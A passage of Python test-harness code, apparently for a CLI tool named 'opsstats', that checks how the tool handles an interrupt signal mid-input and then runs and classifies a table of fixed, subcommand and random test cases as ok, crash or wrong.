        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    try:
        with open(fifo, "wb", buffering=0) as writer:  # returns once the reader opened it
            writer.write(b"y,s\n1,0.5\n")
            proc.send_signal(signal.SIGINT)
        stdout, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
        fifo.unlink()
    return Outcome(proc.returncode, stdout, stderr)


def classify_interrupted(outcome: Outcome) -> tuple[str, str]:
    """``ok`` for one line ``opsstats: interrupted`` and exit status 130."""
    lines = outcome.stderr.splitlines()
    if "Traceback" in outcome.stderr:
        return "crash", f"status {outcome.status}, {len(lines)} lines of traceback"
    if outcome.status == 130 and lines == ["opsstats: interrupted"] and not outcome.stdout:
        return "ok", ""
    return "wrong", f"status {outcome.status}: {outcome.stderr.strip()[:100]!r}"


def census(
    main: Callable[[list[str]], int], folder: Path, n_random: int, parser: Any = None
) -> list[dict[str, Any]]:
    """Every case of the table run and classified: a list of records (``parser``: the
    subcommands' cases too)."""
    make_files(folder)
    subs = [] if parser is None else subcommand_cases(parser)
    cases = fixed_cases() + subs + random_cases(folder, n_random)
    records = []
    for case in cases:
        kind, detail, _ = run_and_classify(main, case, folder)
        records.append(
            {
                "case": case.name,
                "table": "random"
                if case.name.startswith("random")
                else "subcommands"
                if case.name.startswith("sub ")
                else "fixed",
                "outcome": kind,
                "detail": detail,
            }
        )
    return records
